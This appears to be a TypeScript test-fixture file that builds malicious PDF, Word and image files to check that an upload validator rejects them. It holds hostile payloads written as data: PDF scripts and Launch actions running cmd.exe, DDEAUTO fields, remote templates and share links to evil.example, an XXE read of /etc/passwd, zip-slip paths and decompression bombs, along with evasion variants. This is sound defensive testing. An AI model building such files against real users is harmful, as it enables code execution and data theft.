import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import PdfKit from 'pdfkit'
import sharp from 'sharp'
import { type CompoundEntry, compoundFile } from './compound-file.ts'
import {
  ENCRYPTED_DOCX,
  links,
  SAMPLES,
  WORD_TEXT,
  wordFile,
  wordStream,
  wordStreams,
  wordText,
  zip,
} from './sample-files.ts'

/** A file that must be refused: its name, its bytes and the error code. */
export type HostileFile = readonly [fileName: string, content: Buffer, code: string]

/** A PDF of one page: keys of its catalog and page, and further objects from number 4 on. */
export const pdfWith = ({ catalog = '', page = '', objects = [] as readonly string[] } = {}): Buffer =>
  Buffer.from(
    [
      '%PDF-1.7',
      `1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj`,
      '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99] ${page}>>endobj`,
      ...objects.map((object, index) => `${index + 4} 0 obj${object}endobj`),
      'trailer<</Root 1 0 R>>',
      '%%EOF',
    ].join('\n'),
    'latin1',
  )

const stream = (content: Buffer, keys = ''): string =>
  `<<${keys}/Length ${content.length}>>stream\n${content.toString('latin1')}\nendstream `

const annotation = (keys: string) => ({ page: `/Annots[<</Type/Annot/Rect[0 0 9 9]${keys}>>]` })

const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])

/** Zeros that unpack to `size` bytes, packed twice. */
const packedTwice = (size: number) => deflateSync(deflateSync(Buffer.alloc(size), { level: 9 }), { level: 9 })

const hiddenScript = async (): Promise<Buffer> => {
  const document = await PDFDocument.create()
  document.addPage()
  const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action))
  return Buffer.from(await document.save({ useObjectStreams: true }))
}

const lockedPdf = async (): Promise<Buffer> => {
  const document = new PdfKit({ userPassword: 'open' })
  document.end()
  return Buffer.concat(await document.toArray())
}

const longPdf = async (pages: number): Promise<Buffer> => {
  const document = await PDFDocument.create()
  for (let page = 0; page < pages; page += 1) document.addPage([99, 99])
  return Buffer.from(await document.save())
}

const half = (content: Buffer) => content.subarray(0, content.length / 2)

const wordLink = (type: string, target: string) =>
  wordFile(links('word/_rels/document.xml.rels', [{ type, target, isExternal: true }]))

const WORD_NS = `xmlns:w="${WORD_TEXT}"`
const step = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
const instruction = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
/** A whole field, as Word writes it. */
export const wordField = (...instructions: readonly string[]): string =>
  `${step('begin')}${instructions.map(instruction).join('')}${step('separate')}<w:r><w:t>1</w:t></w:r>${step('end')}`
const DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
const inParagraph = (text: string) => wordFile(wordText(`<w:p>${text}</w:p>`))

const field = (...parts: readonly string[]) =>
  wordFile(
    wordText(`<w:p>${parts.map((part) => `<w:r><w:instrText>${part}</w:instrText></w:r>`).join('')}</w:p>`),
  )

const part = (name: string, content: Buffer | string = 'x') => ({ name, content: Buffer.from(content) })

const xmlDocument = (xml: string) => wordFile(part('word/document.xml', xml))

const oldWord = (...entries: readonly CompoundEntry[]) =>
  compoundFile(['WordDocument', wordStream()], ...entries)

const OLE_LINK = Buffer.from([1, 0, 0, 2, 1, 0, 0, 0, 0, 0, 0, 0])

/** A PDF whose table names its objects, from number 1 on. `hidden` follows them; the table names it only if `places` does. */
const pdfWithTable = (
  objects: readonly string[],
  { hidden = '', places = {} as Readonly<Record<number, string>> } = {},
): Buffer => {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const offset = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  text += hidden
  for (const [number, start] of Object.entries(places)) offsets[Number(number) - 1] = text.indexOf(start)
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  const count = offsets.length + 1
  return Buffer.from(
    `${text}xref\n0 ${count}\n0000000000 65535 f \n${rows}trailer\n<</Size ${count}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  )
}
const PAGES = [
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>',
]
const opening = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`
const LAUNCH = '<</S/Launch/F(cmd.exe)>>'
const fileInside = (name: string, content: string, keys = '/Type/EmbeddedFile') =>
  pdfWith({
    catalog: '/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>',
    objects: [stream(Buffer.from(content), keys), `<</Type/Filespec/F(${name})/UF(${name})/EF<</F 4 0 R>>>>`],
  })

/** A page whose drawing has this many lines. */
export const pdfOfLines = (lines: number): Buffer =>
  pdfWith({
    page: '/Contents 4 0 R',
    objects: [stream(deflateSync(Buffer.from('0 0 m 10 10 l S\n'.repeat(lines))), '/Filter/FlateDecode')],
  })

/** A picture whose header claims a size. */
const pngClaiming = (side: number): Buffer => {
  const content = Buffer.from(SAMPLES.png)
  content.writeUInt32BE(side, 16)
  content.writeUInt32BE(side, 20)
  return content
}

/** An attacker's files, each of a different kind. */
export const hostileFiles = async (): Promise<Record<string, HostileFile>> => {
  const noise = await sharp({
    create: {
      width: 60,
      height: 60,
      channels: 3,
      background: 'white',
      noise: { type: 'gaussian', mean: 99, sigma: 40 },
    },
  })
    .jpeg()
    .toBuffer()
  const noisePng = await sharp(noise).png().toBuffer()
  const script = '<</S/JavaScript/JS(app.alert(1))>>'
  const entity = (name: string, text: string) => `<!ENTITY ${name} "${text}">`
  return {
    'pdf: only a header': ['x.pdf', Buffer.from('%PDF-'), 'file-damaged'],
    'pdf: a header and words': ['x.pdf', Buffer.from(`%PDF-1.7\n${'words '.repeat(900)}`), 'file-damaged'],
    'pdf: without its page': ['x.pdf', half(SAMPLES.pdf).subarray(0, 90), 'file-damaged'],
    'pdf: pages that contain themselves': [
      'x.pdf',
      Buffer.from(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>',
      ),
      'file-damaged',
    ],
    'pdf: 5,000 brackets': ['x.pdf', Buffer.from(`%PDF-1.7\n1 0 obj ${'['.repeat(5_000)}`), 'file-damaged'],
    'pdf: tables that refer to themselves': [
      'x.pdf',
      Buffer.from('%PDF-1.7\nxref\n0 0\ntrailer <</Prev 9>>\nstartxref\n9'),
      'file-damaged',
    ],
    'pdf: a password': ['x.pdf', await lockedPdf(), 'file-password'],
    'pdf: a script that runs when the file opens': [
      'x.pdf',
      pdfWith({ catalog: `/OpenAction${script}` }),
      'file-active',
    ],
    'pdf: a named script': [
      'x.pdf',
      pdfWith({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }),
      'file-active',
    ],
    'pdf: a script on a page': ['x.pdf', pdfWith({ page: `/AA<</O${script}>>` }), 'file-active'],
    'pdf: a script behind a link': ['x.pdf', pdfWith(annotation(`/Subtype/Link/A${script}`)), 'file-active'],
    'pdf: a script on a form field': [
      'x.pdf',
      pdfWith({ catalog: `/AcroForm<</Fields[<</FT/Tx/T(a)/AA<</K${script}>>>>]>>` }),
      'file-active',
    ],
    'pdf: a script with escaped names': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>' }),
      'file-active',
    ],
    'pdf: a script in compressed objects': ['x.pdf', await hiddenScript(), 'file-active'],
    'pdf: a script that nothing refers to': ['x.pdf', pdfWith({ objects: [script] }), 'file-active'],
    'pdf: a script after its end': [
      'x.pdf',
      Buffer.concat([SAMPLES.pdf, Buffer.from(`\n9 0 obj${script}endobj\n%%EOF`)]),
      'file-active',
    ],
    'pdf: a script after printer commands': [
      'x.pdf',
      Buffer.concat([Buffer.from('@PJL JOB\n'), pdfWith({ catalog: `/OpenAction${script}` })]),
      'file-active',
    ],
    'pdf: a program that is started': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }),
      'file-active',
    ],
    'pdf: a program behind a link': [
      'x.pdf',
      pdfWith(annotation('/Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>')),
      'file-active',
    ],
    'pdf: an embedded program': [
      'x.pdf',
      pdfWith({
        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 4 0 R>>>>]>>>>',
        objects: [stream(PROGRAM, '/Type/EmbeddedFile')],
      }),
      'file-active',
    ],
    'pdf: a program attached to a note': [
      'x.pdf',
      pdfWith({
        ...annotation('/Subtype/FileAttachment/FS<</EF<</F 4 0 R>>>>'),
        objects: [stream(PROGRAM, '/Type/EmbeddedFile')],
      }),
      'file-active',
    ],
    'pdf: a movie': ['x.pdf', pdfWith(annotation('/Subtype/Movie')), 'file-active'],
    'pdf: rich media': ['x.pdf', pdfWith(annotation('/Subtype/RichMedia')), 'file-active'],
    'pdf: a screen annotation': ['x.pdf', pdfWith(annotation('/Subtype/Screen')), 'file-active'],
    'pdf: a 3D model': ['x.pdf', pdfWith(annotation('/Subtype/3D')), 'file-active'],
    'pdf: a rendition': ['x.pdf', pdfWith({ catalog: '/OpenAction<</S/Rendition>>' }), 'file-active'],
    'pdf: an import of data': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/ImportData/F(\\\\\\\\evil\\\\x)>>' }),
      'file-active',
    ],
    'pdf: a jump into an embedded file': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/GoToE>>' }),
      'file-active',
    ],
    'pdf: an action whose kind is in another object': [
      'x.pdf',
      pdfWithTable([opening('<</S 4 0 R/F(cmd.exe)>>'), ...PAGES, '/Launch']),
      'file-active',
    ],
    'pdf: an action with an invalid value': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction 4 0 R', objects: ['<</S/Launch/F(cmd.exe)/Z foo>>'] }),
      'file-active',
    ],
    'pdf: an action with an invalid value, whose kind is in another object': [
      'x.pdf',
      pdfWithTable([opening('5 0 R'), ...PAGES, '/Launch', '<</S 4 0 R/F(cmd.exe)/Z foo>>']),
      'file-active',
    ],
    'pdf: two objects of one number': [
      'x.pdf',
      pdfWithTable([opening('4 0 R'), ...PAGES, LAUNCH], {
        hidden: '4 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\n',
      }),
      'file-active',
    ],
    'pdf: an action inside a drawing': [
      'x.pdf',
      pdfWithTable(
        [opening('5 0 R'), ...PAGES, stream(Buffer.from(`q\n5 0 obj ${LAUNCH} endobj\nQ`)), 'null'],
        { places: { 5: '5 0 obj <<' } },
      ),
      'file-active',
    ],
    'pdf: an action inside a text': [
      'x.pdf',
      pdfWithTable([opening('5 0 R'), ...PAGES, `(5 0 obj ${LAUNCH} endobj)`, 'null'], {
        places: { 5: '5 0 obj <<' },
      }),
      'file-active',
    ],
    'pdf: an action inside a comment': [
      'x.pdf',
      pdfWithTable([opening('5 0 R'), ...PAGES, 'null', 'null'], {
        hidden: `%5 %\n0 obj ${LAUNCH} endobj\n`,
        places: { 5: '5 %' },
      }),
      'file-active',
    ],
    'pdf: packed objects without their type': [
      'x.pdf',
      pdfWith({ objects: [stream(Buffer.from(`9 0 ${LAUNCH}`), '/N 1/First 4')] }),
      'file-active',
    ],
    'pdf: packed objects that cannot be read': [
      'x.pdf',
      pdfWith({ objects: [stream(Buffer.from(`9 0 ${LAUNCH}`), '/Type/ObjStm/N 1/First 4/Filter/Crypt')] }),
      'file-active',
    ],
    'pdf: a form in XML with a script': [
      'x.pdf',
      pdfWith({
        catalog: '/AcroForm<</Fields[]/XFA 4 0 R>>',
        objects: [
          stream(Buffer.from('<xdp:xdp><x:script>app.launchURL("https://evil")</x:script></xdp:xdp>')),
        ],
      }),
      'file-active',
    ],
    'pdf: a form in XML with a script, in pieces': [
      'x.pdf',
      pdfWith({
        catalog: '/AcroForm<</Fields[]/XFA[(a)4 0 R(b)5 0 R]>>',
        objects: [stream(Buffer.from('<xdp:xdp><scr')), stream(Buffer.from('ipt>1</script></xdp:xdp>'))],
      }),
      'file-active',
    ],
    'pdf: a program inside without its type': ['x.pdf', fileInside('a.exe', 'MZ', ''), 'file-active'],
    'pdf: a program inside that cannot be found': [
      'x.pdf',
      pdfWith({ objects: ['<</F(a.xml)/EF<</F 9 0 R>>>>'] }),
      'file-active',
    ],
    'pdf: a script inside that looks like data': [
      'x.pdf',
      fileInside('a.wsf', '<?xml version="1.0"?><job><script>1</script></job>'),
      'file-active',
    ],
    'pdf: data inside under two names': [
      'x.pdf',
      pdfWith({
        objects: [
          stream(Buffer.from('<a/>'), '/Type/EmbeddedFile'),
          '<</F(a.xml)/UF(a.hta)/EF<</F 4 0 R>>>>',
        ],
      }),
      'file-active',
    ],
    'pdf: data inside that begins like XML and is not': [
      'x.pdf',
      fileInside('a.xml', '<?xml version="1.0"?><a>MZ'),
      'file-active',
    ],
    'pdf: data inside that Word opens': [
      'x.pdf',
      fileInside('a.xml', '<?xml version="1.0"?><?mso-application progid="Word.Document"?><a/>'),
      'file-active',
    ],
    'pdf: a web page inside': [
      'x.pdf',
      fileInside('a.xml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'),
      'file-active',
    ],
    'pdf: a share at opening': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>' }),
      'file-active',
    ],
    'pdf: a form that is sent at opening': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>' }),
      'file-active',
    ],
    'pdf: a web page at opening': [
      'x.pdf',
      pdfWith({ catalog: '/OpenAction<</S/URI/URI(https://evil.example)>>' }),
      'file-active',
    ],
    'pdf: a web page after a place': [
      'x.pdf',
      pdfWith({
        catalog: '/OpenAction 4 0 R',
        objects: ['<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R]>>', '<</S/URI/URI(https://evil.example)>>'],
      }),
      'file-active',
    ],
    'pdf: a share when a page is shown': [
      'x.pdf',
      pdfWith({ page: '/AA 4 0 R', objects: ['<</O<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>>>'] }),
      'file-active',
    ],
    'pdf: a picture of a share': [
      'x.pdf',
      pdfWith({ objects: [stream(Buffer.alloc(0), '/Type/XObject/Subtype/Image/F(\\\\\\\\evil\\\\x.png)')] }),
      'file-active',
    ],
    'pdf: an object that never comes': [
      'x.pdf',
      pdfWithTable([opening('null'), ...PAGES, 'null'], { hidden: `%${'1%'.repeat(300_000)}\n` }),
      'file-too-complex',
    ],
    'pdf: a drawing of two million lines': ['x.pdf', pdfOfLines(2_000_000), 'file-too-complex'],
    'pdf: a drawing that unpacks to two gigabytes': [
      'x.pdf',
      pdfWith({
        page: '/Contents 4 0 R',
        objects: [stream(packedTwice(2_000_000_000), '/Filter[/FlateDecode/FlateDecode]')],
      }),
      'file-too-complex',
    ],
    'pdf: 2,000 pages': ['x.pdf', await longPdf(2_000), 'file-too-complex'],
    'pdf: a program before its header': ['x.pdf', Buffer.concat([PROGRAM, SAMPLES.pdf]), 'file-damaged'],
    'pdf: a web page': ['x.pdf', Buffer.from('<html><script>alert(1)</script></html>'), 'file-damaged'],
    'pdf: the test file of virus scanners': [
      'x.pdf',
      Buffer.from(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-${'STANDARD-ANTIVIRUS-TEST-FILE'}!$H+H*`),
      'file-damaged',
    ],

    'docx: 30,000 entries': [
      'x.docx',
      wordFile(...Array.from({ length: 30_000 }, (_, index) => part(`word/media/${index}`))),
      'file-too-complex',
    ],
    'docx: two parts that unpack to 240 megabytes': [
      'x.docx',
      wordFile(
        part('word/media/a', Buffer.alloc(120_000_000)),
        part('word/media/b', Buffer.alloc(120_000_000)),
      ),
      'file-too-complex',
    ],
    'docx: a text that unpacks to 80 megabytes': [
      'x.docx',
      wordFile(wordText(' '.repeat(80_000_000))),
      'file-too-complex',
    ],
    'docx: an entry outside the archive': ['x.docx', wordFile(part('../../evil')), 'file-damaged'],
    'docx: an entry outside the archive, with backslashes': [
      'x.docx',
      wordFile(part('..\\..\\evil')),
      'file-damaged',
    ],
    'docx: an entry with an absolute path': ['x.docx', wordFile(part('/etc/passwd')), 'file-damaged'],
    'docx: an entry on a drive': ['x.docx', wordFile(part('C:\\evil')), 'file-damaged'],
    'docx: a template from the web': [
      'x.docx',
      wordLink('attachedTemplate', 'https://evil.example/t.dotm'),
      'file-active',
    ],
    'docx: a template from a share': [
      'x.docx',
      wordLink('attachedTemplate', '\\\\evil.example\\t.dotm'),
      'file-active',
    ],
    'docx: a template from a share, with a file address': [
      'x.docx',
      wordLink('attachedTemplate', 'file://evil.example/t.dotm'),
      'file-active',
    ],
    'docx: a template from a share, with five slashes': [
      'x.docx',
      wordLink('attachedTemplate', 'file://///evil.example/t.dotm'),
      'file-active',
    ],
    'docx: an object from the web': [
      'x.docx',
      wordLink('oleObject', 'https://evil.example/x'),
      'file-active',
    ],
    'docx: a frame from the web': ['x.docx', wordLink('frame', 'https://evil.example/x'), 'file-active'],
    'docx: a subdocument from the web': [
      'x.docx',
      wordLink('subDocument', 'https://evil.example/x'),
      'file-active',
    ],
    'docx: an imported chunk from the web': [
      'x.docx',
      wordLink('aFChunk', 'https://evil.example/x'),
      'file-active',
    ],
    ...Object.fromEntries(
      ['page.htm', 'letter.rtf', 'other.docx'].map((name) => [
        `docx: an imported chunk inside, ${name}`,
        [
          'x.docx',
          wordFile(
            part(`word/${name}`, '<html><img src="https://evil.example/x"></html>'),
            links('word/_rels/document.xml.rels', [{ type: 'aFChunk', target: name }]),
          ),
          'file-active',
        ] as const,
      ]),
    ),
    'docx: macros': ['x.docx', wordFile(part('word/vbaProject.bin')), 'file-macros'],
    'docx: a file with macros inside': ['x.docx', wordFile(part('word/embeddings/a.docm')), 'file-macros'],
    'docx: a control': [
      'x.docx',
      wordFile(links('word/_rels/document.xml.rels', [{ type: 'control', target: 'x/a.xml' }])),
      'file-active',
    ],
    'docx: a control that no link names': [
      'x.docx',
      wordFile(part('word/activeX/activeX1.bin')),
      'file-active',
    ],
    'docx: the data of a control': [
      'x.docx',
      wordFile(links('word/x/_rels/a.xml.rels', [{ type: 'activeXControlBinary', target: 'a.bin' }])),
      'file-active',
    ],
    'docx: a program inside': [
      'x.docx',
      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole10Native', PROGRAM]))),
      'file-active',
    ],
    'docx: a field that starts a program': [
      'x.docx',
      field('DDEAUTO c:\\\\cmd.exe "/k calc"'),
      'file-active',
    ],
    'docx: a field that starts a program, in pieces': [
      'x.docx',
      field('DD', 'EAU', 'TO c:\\\\cmd.exe'),
      'file-active',
    ],
    'docx: a field that starts a program, in one element': [
      'x.docx',
      wordFile(wordText('<w:p><w:fldSimple w:instr="DDE c:\\\\cmd.exe"/></w:p>')),
      'file-active',
    ],
    'docx: such a field behind another': [
      'x.docx',
      inParagraph(wordField(' PAGE ') + wordField(DDE)),
      'file-active',
    ],
    'docx: such a field in two paragraphs': [
      'x.docx',
      inParagraph(
        `${step('begin')}${instruction('DDE')}</w:p><w:p>${instruction('AUTO c:\\\\cmd.exe')}${step('end')}`,
      ),
      'file-active',
    ],
    'docx: such a field without its end': [
      'x.docx',
      inParagraph(step('begin') + instruction(DDE)),
      'file-active',
    ],
    'docx: such a field behind spaces': [
      'x.docx',
      inParagraph(wordField(' '.repeat(9_000), DDE)),
      'file-active',
    ],
    'docx: such a field behind one of 80,000 pieces': [
      'x.docx',
      inParagraph(wordField(' PAGE', ...new Array<string>(80_000).fill('x y')) + wordField(DDE)),
      'file-active',
    ],
    'docx: a field whose name is computed': [
      'x.docx',
      inParagraph(
        `${step('begin')}${wordField('QUOTE 68 68 69 65 85 84 79')}${instruction(' c:\\\\cmd.exe')}${step('end')}`,
      ),
      'file-active',
    ],
    'docx: a field whose name is computed in part': [
      'x.docx',
      inParagraph(
        `${step('begin')}${instruction('DD')}${wordField('QUOTE 69')}${instruction(' cmd')}${step('end')}`,
      ),
      'file-active',
    ],
    'docx: a picture whose address is computed': [
      'x.docx',
      inParagraph(
        `${step('begin')}${instruction('INCLUDEPICTURE "')}${wordField('QUOTE 92 92')}${step('end')}`,
      ),
      'file-active',
    ],
    'docx: a field that starts a program, in a header': [
      'x.docx',
      wordFile(part('word/header1.xml', `<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`)),
      'file-active',
    ],
    'docx: a field that starts a program, in a header of another name': [
      'x.docx',
      wordFile(part('word/header1.dat', `<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`)),
      'file-active',
    ],
    'docx: a field that starts a program, in a header in UTF-16': [
      'x.docx',
      wordFile(
        part(
          'word/header1.xml',
          Buffer.from(`\ufeff<w:hdr ${WORD_NS}><w:p>${wordField(DDE)}</w:p></w:hdr>`, 'utf16le'),
        ),
      ),
      'file-active',
    ],
    'docx: a text of a share': [
      'x.docx',
      inParagraph(wordField('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx"')),
      'file-active',
    ],
    'docx: a picture of a share in a field': [
      'x.docx',
      inParagraph(wordField('INCLUDEPICTURE "file://evil/x.png" \\d')),
      'file-active',
    ],
    'docx: a table of a share': [
      'x.docx',
      inParagraph(wordField('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" A1 \\a')),
      'file-active',
    ],
    'docx: a text of the web': [
      'x.docx',
      inParagraph(wordField('INCLUDETEXT “https://evil.example/a”')),
      'file-active',
    ],
    'docx: a database': ['x.docx', inParagraph(wordField('DATABASE \\d "x"')), 'file-active'],
    'docx: a picture of a share': ['x.docx', wordLink('image', 'file://evil/share/x.png'), 'file-active'],
    'docx: a picture of a share as on Windows': [
      'x.docx',
      wordLink('image', '\\\\evil.example\\share\\x.png'),
      'file-active',
    ],
    'docx: a picture of a share in escaped letters': [
      'x.docx',
      wordLink('image', 'file:///%5C%5Cevil/x'),
      'file-active',
    ],
    'docx: a film of a share': ['x.docx', wordLink('video', '//evil/x'), 'file-active'],
    'docx: a template of a share that calls itself a part': [
      'x.docx',
      wordFile(
        links('word/_rels/settings.xml.rels', [
          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm' },
        ]),
      ),
      'file-active',
    ],
    'docx: a program inside under another name': [
      'x.docx',
      wordFile(
        part('word/media/object1.dat', compoundFile(['\u0001Ole10Native', PROGRAM])),
        links('word/_rels/document.xml.rels', [{ type: 'oleObject', target: 'media/object1.dat' }]),
      ),
      'file-active',
    ],
    'docx: a program inside without a container': [
      'x.docx',
      wordFile(
        part('word/media/object1.dat', PROGRAM),
        links('word/_rels/document.xml.rels', [{ type: 'package', target: '/word/media/object1.dat' }]),
      ),
      'file-active',
    ],
    'docx: an object that is a link': [
      'x.docx',
      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['\u0001Ole', OLE_LINK]))),
      'file-active',
    ],
    'docx: a formula of the old editor, which has security holes': [
      'x.docx',
      wordFile(part('word/embeddings/oleObject1.bin', compoundFile(['Equation Native', Buffer.alloc(99)]))),
      'file-active',
    ],
    'docx: macros under another name': [
      'x.docx',
      wordFile(links('word/_rels/document.xml.rels', [{ type: 'vbaProject', target: 'x.dat' }])),
      'file-macros',
    ],
    'docx: macros in a workbook inside': [
      'x.docx',
      wordFile(
        part('word/embeddings/a.xlsx', zip([part('xl/vbaProject.bin')])),
        links('word/_rels/document.xml.rels', [{ type: 'package', target: 'embeddings/a.xlsx' }]),
      ),
      'file-macros',
    ],
    'docx: two parts of one name': [
      'x.docx',
      zip([
        part('[Content_Types].xml', '<Types/>'),
        links('_rels/.rels', [{ type: 'officeDocument', target: 'word/document.xml' }]),
        wordText('<w:p/>'),
        links('word/_rels/document.xml.rels', [
          { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', isExternal: true },
        ]),
        links('word/_rels/document.xml.rels', []),
      ]),
      'file-damaged',
    ],
    'docx: two parts of one name, in escaped and upper-case letters': [
      'x.docx',
      wordFile(part('word/a.xml', '<a/>'), part('word/%41.XML', '<a/>')),
      'file-damaged',
    ],
    'docx: entities that multiply': [
      'x.docx',
      xmlDocument(
        `<!DOCTYPE w [${entity('a', 'ha'.repeat(99))}${entity('b', '&a;'.repeat(99))}]><w:document xmlns:w="${WORD_TEXT}">&b;</w:document>`,
      ),
      'file-active',
    ],
    'docx: an entity from a file': [
      'x.docx',
      xmlDocument(
        `<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${WORD_TEXT}">&a;</w:document>`,
      ),
      'file-active',
    ],
    'docx: a text that is not well-formed': ['x.docx', xmlDocument('<w:document>'), 'file-damaged'],
    'docx: without a main document': [
      'x.docx',
      wordFile(links('_rels/.rels', [{ type: 'officeDocument', target: 'word/other.xml' }])),
      'file-damaged',
    ],
    'docx: cut in half': ['x.docx', half(wordFile(part('word/media/a', noise))), 'file-damaged'],
    'docx: a password': ['x.docx', ENCRYPTED_DOCX, 'file-password'],
    'docx: a plain archive': ['x.docx', zip([part('a.txt')]), 'file-damaged'],

    'doc: macros': ['x.doc', oldWord(['Macros', [['VBA', [['_VBA_PROJECT', PROGRAM]]]]]), 'file-macros'],
    'doc: an embedded program': [
      'x.doc',
      oldWord(['ObjectPool', [['_1', [['\u0001Ole10Native', PROGRAM]]]]]),
      'file-active',
    ],
    'doc: a formula of the old editor, which has security holes': [
      'x.doc',
      oldWord(['ObjectPool', [['_1', [['Equation Native', Buffer.alloc(99)]]]]]),
      'file-active',
    ],
    'doc: a control': [
      'x.doc',
      oldWord(['ObjectPool', [['_1', [['\u0003OCXNAME', PROGRAM]]]]]),
      'file-active',
    ],
    'doc: a field that starts a program': [
      'x.doc',
      compoundFile(...wordStreams(`a\x13 PAGE \x141\x15 \x13 ${DDE}\x14b\x15`)),
      'file-active',
    ],
    'doc: a field whose name is computed': [
      'x.doc',
      compoundFile(...wordStreams('\x13\x13QUOTE 68 68 69\x14DDE\x15 c:\\\\cmd.exe\x15')),
      'file-active',
    ],
    'doc: a picture of a share': [
      'x.doc',
      compoundFile(...wordStreams('\x13 INCLUDEPICTURE "\\\\\\\\evil\\\\x.png" \\d \x15')),
      'file-active',
    ],
    'doc: a template from the web': [
      'x.doc',
      compoundFile(...wordStreams('text', 'https://evil.example/t.dot')),
      'file-active',
    ],
    'doc: a template from a share': [
      'x.doc',
      compoundFile(...wordStreams('text', '\\\\evil.example\\share\\t.dot')),
      'file-active',
    ],
    'doc: a workbook': ['x.doc', compoundFile(['Workbook', PROGRAM]), 'file-damaged'],
    'doc: cut in half': ['x.doc', half(oldWord(['1Table', Buffer.alloc(9_000, 'text')])), 'file-damaged'],
    'doc: without its last sectors': [
      'x.doc',
      compoundFile(
        ['WordDocument', wordStream({ bytes: 20_000 })],
        ['1Table', Buffer.alloc(9_000, 'text')],
      ).subarray(0, -600),
      'file-damaged',
    ],
    'doc: a password': [
      'x.doc',
      compoundFile(['WordDocument', wordStream({ isEncrypted: true })]),
      'file-password',
    ],
    'doc: a main stream without a header': [
      'x.doc',
      compoundFile(['WordDocument', Buffer.alloc(5_000, 'text')]),
      'file-damaged',
    ],

    'png: 65,535 pixels wide and high': ['x.png', pngClaiming(65_535), 'file-too-complex'],
    'png: cut in half': ['x.png', half(noisePng), 'file-damaged'],
    'png: only a header': ['x.png', SAMPLES.png.subarray(0, 33), 'file-damaged'],
    'png: an SVG with a script': [
      'x.png',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'file-damaged',
    ],
    'png: a gif': ['x.png', await sharp(noise).gif().toBuffer(), 'file-damaged'],
    'jpg: cut in half': ['x.jpg', half(noise), 'file-damaged'],
    'jpg: only a header': ['x.jpg', noise.subarray(0, 20), 'file-damaged'],
    'jpg: a tiff': ['x.jpg', await sharp(noise).tiff().toBuffer(), 'file-damaged'],
    'jpg: a webp': ['x.jpg', await sharp(noise).webp().toBuffer(), 'file-damaged'],
  }
}
